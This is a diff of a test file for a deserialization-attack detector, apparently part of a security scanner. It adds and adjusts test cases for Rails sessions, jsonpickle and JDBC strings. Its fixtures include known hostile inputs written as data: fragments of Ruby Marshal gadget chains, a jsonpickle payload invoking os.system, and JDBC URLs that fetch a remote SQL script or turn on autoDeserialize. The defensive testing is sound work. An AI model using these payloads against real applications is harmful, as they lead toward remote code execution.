@@ -116,6 +116,9 @@ describe("deserialization analyzer", () => {
     // The gadget chains dump an array of such objects.
     const chain = Buffer.from("\x04\b[\x07o:\x14Gem::SpecFetcher\x00o:\x13Gem::Installer\x00U:\x15Gem::Requirement[\x06o:\x12Net::WriteAdapter", "latin1");
     expect(s(chain.toString("base64"))).toBe(0.9);
+    // A forged Rails session: a hash holding a gadget; after padding too.
+    const session = Buffer.from(`\x04\b{\x06I"\x0fsession_id\x06:\x06ET${"x".repeat(6000)}o:\x12Net::WriteAdapter`, "latin1");
+    expect(s(session.toString("base64"))).toBe(0.9);
     expect(s('{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}')).toBe(0.95);
     expect(s('{"py/reduce":[{"py/type":"myapp.Thing"}]}')).toBe(0.8);
     // A JSON body's leaves: the callable's name under jsonpickle's key.
@@ -131,6 +134,10 @@ describe("deserialization analyzer", () => {
     ]) {
       expect([v, s(v)]).toEqual([v, 0.9]);
     }
+    // Any case, a wrapper's or +srv's name first, H2's settings with blanks, the (host=...,...) form, a long URL.
+    for (const v of ["JDBC:h2:mem:;INIT=RUNSCRIPT FROM 'http://x/y.sql'", "jdbc:p6spy:mysql://x/db?autoDeserialize=true", "jdbc:mysql+srv://x/db?autoDeserialize=true", "jdbc:h2:mem:test; INIT=RUNSCRIPT FROM 'http://x/y.sql'", "jdbc:mysql://(host=x,autoDeserialize=true)/db", `jdbc:mysql://x/db?${"a=1&".repeat(1000)}autoDeserialize=true`]) {
+      expect([v.slice(0, 60), s(v)]).toEqual([v.slice(0, 60), 0.9]);
+    }
     for (const v of ["jdbc:mysql://db.internal:3306/shop?useSSL=true", "jdbc:postgresql://localhost:5432/app", "jdbc:h2:mem:testdb"]) expect([v, s(v)]).toEqual([v, 0]);
     // Read once each, to the next blank: half a megabyte of `jdbc:` prefixes is a linear read.
     for (const v of ["jdbc:h2:".repeat(62_500), "jdbc:mysql://".repeat(40_000), `${"jdbc:postgresql:x".repeat(30_000)}?`]) expect(s(v)).toBe(0);
@@ -139,7 +146,7 @@ describe("deserialization analyzer", () => {
   test("ordinary values are not serialized objects", () => {
     // A Rails session cookie (a Marshal hash), jsonpickle of the application's own class, ViewState-like
     // base64, C++ and Ruby names in prose.
-    const rails = Buffer.from("\x04\b{\x07I\"\x0fsession_id\x06:\x06ET", "latin1").toString("base64");
+    const rails = Buffer.from("\x04\b{\x07I\"\x0fsession_id\x06:\x06ETo:\x1dActionDispatch::Flash::FlashHash", "latin1").toString("base64");
     for (const v of [rails, '{"py/object":"myapp.models.Prefs","theme":"dark"}', "Gem::Requirement and std::vector", "/wEPDwUKMTIzNDU2Nzg5MGRk"]) expect(s(v)).toBe(0);
     expect(strength(deserializationAnalyzer, "myapp.models.Prefs", { name: "py/object" })).toBe(0);
     for (const v of ["hello world", "O:1 in the score", "type=text", "!!important", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x", '{"type":"click","x":1}']) {
